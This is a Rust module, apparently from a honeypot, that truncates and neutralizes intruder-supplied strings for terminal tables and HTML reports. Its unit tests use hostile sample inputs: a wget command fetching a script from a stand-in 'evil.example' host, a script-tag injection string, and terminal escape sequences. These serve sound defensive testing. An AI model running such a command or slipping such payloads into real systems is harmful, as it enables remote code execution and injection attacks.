// Text neutralization for attacker-controlled strings.
//
// Usernames, passwords, and commands come straight from intruders. They
// are truncated on the raw value first, then made safe for the target
// surface: control characters stripped for the terminal, HTML-escaped for
// the exported report.

/// Marker appended to truncated values.
pub const ELLIPSIS: &str = "...";

/// Cut `s` to at most `max` characters, appending `...` when anything was cut.
///
/// Counts `char`s, never bytes, so multi-byte input is never split.
pub fn truncate(s: &str, max: usize) -> String {
    match s.char_indices().nth(max) {
        Some((idx, _)) => format!("{}{ELLIPSIS}", &s[..idx]),
        None => s.to_owned(),
    }
}

/// Strip control characters (ESC, BEL, CR and friends) so a captured
/// command cannot drive the operator's terminal. Tabs become spaces.
pub fn sanitize_terminal(s: &str) -> String {
    s.chars()
        .filter_map(|c| match c {
            '\t' => Some(' '),
            c if c.is_control() => None,
            c => Some(c),
        })
        .collect()
}

/// Truncate then sanitize: the form every compact table cell uses.
pub fn cell(s: &str, max: usize) -> String {
    sanitize_terminal(&truncate(s, max))
}

/// Escape the five HTML-significant characters.
pub fn escape_html(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            c => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn truncate_short_values_unchanged() {
        assert_eq!(truncate("root", 15), "root");
        assert_eq!(truncate("", 15), "");
        assert_eq!(truncate("exactly-fifteen", 15), "exactly-fifteen");
    }

    #[test]
    fn truncate_long_values_get_marker() {
        let out = truncate("wget http://evil.example/x.sh", 20);
        assert_eq!(out, "wget http://evil.exa...");
        assert!(out.chars().count() <= 23);
    }

    #[test]
    fn truncate_is_char_exact() {
        let s = "ãçé€漢字テスト";
        for max in 0..s.chars().count() {
            let out = truncate(s, max);
            let prefix: String = s.chars().take(max).collect();
            assert_eq!(out, format!("{prefix}..."));
            assert!(out.chars().count() <= max + 3);
        }
    }

    #[test]
    fn escape_leaves_nothing_significant() {
        let hostile = r#"<script>alert('x')</script> & "quoted""#;
        let escaped = escape_html(hostile);
        for c in ['<', '>', '"', '\''] {
            assert!(!escaped.contains(c), "found {c} in {escaped}");
        }
        assert_eq!(escaped.matches('&').count(), escaped.matches(';').count());
    }

    #[test]
    fn truncate_before_escape() {
        // The cut happens on the raw value, so an entity is never split.
        let raw = "aaaaaaaaaaa<b>";
        let html = escape_html(&truncate(raw, 12));
        assert_eq!(html, "aaaaaaaaaaa&lt;...");
    }

    #[test]
    fn terminal_sanitizer_strips_escape_sequences() {
        assert_eq!(sanitize_terminal("ls\x1b[2J\x07\r"), "ls[2J");
        assert_eq!(sanitize_terminal("a\tb"), "a b");
        assert_eq!(cell("\x1b]0;pwned\x07whoami", 20), "]0;pwnedwhoami");
    }
}
